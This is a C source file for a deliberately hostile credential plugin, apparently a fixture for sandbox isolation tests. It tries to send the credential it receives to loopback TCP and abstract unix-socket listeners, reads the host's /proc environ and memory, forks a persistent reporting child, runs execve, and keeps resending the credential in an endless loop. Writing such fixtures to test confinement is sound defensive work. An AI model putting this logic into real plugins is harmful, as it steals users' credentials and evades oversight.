/* A plugin hostile before it ever sees a credential, for the sandbox tests.
** Its constructor, its init() and a thread init() starts each try to reach
** out: fork a child that keeps reporting, connect to the test's listeners
** (TCP on loopback, an abstract unix socket), read the host's
** /proc/<pid>/environ and /proc/<pid>/mem, run a program. The thread waits
** for the credential create() receives, then tries again carrying it, and
** also tries to read a file (as does the constructor, and says which
** process ids it has). What every attempt got is kept; authenticate()
** returns it as the info "report" (and a Bearer header, so the call works).
**
** Where to reach is read at load from "report-to" beside the plugin file:
** "<tcp port> <abstract socket name> <file to read>". Nothing of this
** should arrive anywhere: the test's listeners must receive nothing. */
#define _GNU_SOURCE
#include <credplug/plugin.h>

#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static const credplug_host_api *host;

static pthread_mutex_t mutex = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t changed = PTHREAD_COND_INITIALIZER;
static char report[8192];
static char credential[1024]; /* what create() received: the thread's loot */
static int thread_reported;

static int port;
static char socket_name[108];
static char file_to_read[512];

static void note(const char *stage, const char *what, const char *result) {
  size_t used = strlen(report);
  snprintf(report + used, sizeof report - used, "%s %s: %s; ", stage, what, result);
}

static const char *outcome(int ok, const char *success) { return ok ? success : strerror(errno); }

/* Connects to the TCP listener, sends `message`; the result as text. */
static const char *send_tcp(const char *message) {
  struct sockaddr_in to;
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  int ok;
  if (fd < 0) return strerror(errno);
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons((uint16_t)port);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ok = connect(fd, (struct sockaddr *)&to, sizeof to) == 0 && write(fd, message, strlen(message)) > 0;
  close(fd);
  return outcome(ok, "SENT");
}

static const char *send_unix(const char *message) {
  struct sockaddr_un to;
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  int ok;
  if (fd < 0) return strerror(errno);
  memset(&to, 0, sizeof to);
  to.sun_family = AF_UNIX;
  memcpy(to.sun_path + 1, socket_name, strlen(socket_name)); /* abstract: a leading NUL */
  ok = connect(fd, (struct sockaddr *)&to,
               (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(socket_name))) == 0 &&
       write(fd, message, strlen(message)) > 0;
  close(fd);
  return outcome(ok, "SENT");
}

/* Reads up to 4 KiB of `path`; "READ n bytes" or the error. */
static const char *read_file(const char *path, char *out, size_t n) {
  char buffer[4096];
  int fd = open(path, O_RDONLY);
  ssize_t got;
  if (fd < 0) return strerror(errno);
  got = read(fd, buffer, sizeof buffer);
  close(fd);
  if (got < 0) return strerror(errno);
  snprintf(out, n, "READ %ld bytes", (long)got);
  return out;
}

/* Every way out, from `stage`, carrying `loot`. */
static void attempt_everything(const char *stage, const char *loot) {
  char message[2048], path[64], buffer[64];
  pid_t child;
  snprintf(message, sizeof message, "%s reached the listener with: %s\n", stage, loot);
  note(stage, "tcp", send_tcp(message));
  note(stage, "unix", send_unix(message));
  snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
  note(stage, "host environ", read_file(path, buffer, sizeof buffer));
  snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
  note(stage, "host mem", read_file(path, buffer, sizeof buffer));
  child = fork();
  if (child == 0) {
    /* A child that outlives its parent and keeps reporting. */
    int i;
    for (i = 0; i < 300; ++i) {
      struct timespec pause = {0, 20L * 1000 * 1000};
      send_tcp("a forked child reports\n");
      send_unix("a forked child reports\n");
      nanosleep(&pause, NULL);
    }
    _exit(0);
  }
  note(stage, "fork", outcome(child > 0, "FORKED"));
  {
    char *argv[] = {(char *)"/bin/true", NULL};
    char *envp[] = {NULL};
    execve("/bin/true", argv, envp);
    note(stage, "exec", strerror(errno));
  }
}

/* The path of this plugin's file, from the loader's own record. */
static void read_report_to(void) {
  Dl_info info;
  char path[1024], *slash;
  FILE *f;
  if (dladdr((void *)&read_report_to, &info) == 0 || info.dli_fname == NULL) return;
  snprintf(path, sizeof path, "%s", info.dli_fname);
  slash = strrchr(path, '/');
  if (slash == NULL) return;
  snprintf(slash + 1, sizeof path - (size_t)(slash + 1 - path), "report-to");
  f = fopen(path, "r");
  if (f == NULL) return;
  if (fscanf(f, "%d %100s %500s", &port, socket_name, file_to_read) != 3) port = 0;
  fclose(f);
}

__attribute__((constructor)) static void at_load(void) {
  char buffer[64], ids[64];
  read_report_to();
  attempt_everything("constructor", "nothing yet");
  /* Reading a file is allowed while loading: which files it reaches is the
  ** namespaces' file view. Which processes it sees is their PID namespace. */
  note("constructor", "file", read_file(file_to_read, buffer, sizeof buffer));
  snprintf(ids, sizeof ids, "pid %d ppid %d", (int)getpid(), (int)getppid());
  note("constructor", "ids", ids);
}

static void *watcher(void *unused) {
  char loot[1100], buffer[64];
  (void)unused;
  pthread_mutex_lock(&mutex);
  while (credential[0] == '\0') pthread_cond_wait(&changed, &mutex);
  snprintf(loot, sizeof loot, "%s", credential);
  attempt_everything("init thread", loot);
  note("init thread", "file", read_file(file_to_read, buffer, sizeof buffer));
  thread_reported = 1;
  pthread_cond_broadcast(&changed);
  pthread_mutex_unlock(&mutex);
  for (;;) { /* and keeps trying, quietly, for as long as the runner lives */
    struct timespec pause = {0, 20L * 1000 * 1000};
    send_tcp(loot);
    nanosleep(&pause, NULL);
  }
  return NULL;
}

static int32_t e_init(const credplug_host_api *api) {
  pthread_t thread;
  host = api;
  attempt_everything("init", "nothing yet");
  note("init", "thread", pthread_create(&thread, NULL, watcher, NULL) == 0 ? "STARTED" : "not started");
  return CREDPLUG_OK;
}

static int32_t e_create(credplug_call *call, const char *json, size_t len, credplug_instance **out) {
  (void)call;
  pthread_mutex_lock(&mutex);
  snprintf(credential, sizeof credential, "%.*s", (int)(len < 1000 ? len : 1000), json);
  pthread_cond_broadcast(&changed);
  pthread_mutex_unlock(&mutex);
  *out = (credplug_instance *)&port; /* no state of its own */
  return CREDPLUG_OK;
}

static int32_t e_authenticate(credplug_instance *inst, credplug_call *call) {
  struct timespec until;
  (void)inst;
  clock_gettime(CLOCK_REALTIME, &until);
  until.tv_sec += 10;
  pthread_mutex_lock(&mutex);
  while (!thread_reported && pthread_cond_timedwait(&changed, &mutex, &until) == 0) {
  }
  host->out_info(call, "report", report, 0);
  pthread_mutex_unlock(&mutex);
  host->out_header(call, "Authorization", "Bearer early-hostile", CREDPLUG_FLAG_SECRET);
  host->out_expires_at(call, host->now_ms() / 1000 + 3600);
  return CREDPLUG_OK;
}

static const credplug_plugin descriptor = {
    sizeof(credplug_plugin),
    1,
    1,
    "early-hostile",
    "Early hostile",
    "1.0.0",
    "{\"type\":\"object\",\"properties\":{\"api_key\":{\"type\":\"string\",\"writeOnly\":true}}}",
    0,
    e_init,
    NULL,
    e_create,
    e_authenticate,
    NULL,
    NULL,
    NULL,
    0,
    NULL};

CREDPLUG_EXPORT int32_t credplug_get_interface(const char *name, uint32_t major, uint32_t minor_max,
                                               credplug_interface_answer *answer) {
  if (strcmp(name, CREDPLUG_INTERFACE_CREDENTIAL) != 0 || major != 1 || minor_max < 1) return CREDPLUG_ERR_INCOMPATIBLE;
  answer->major = 1;
  answer->minor = 1;
  answer->iface = &descriptor;
  return CREDPLUG_OK;
}
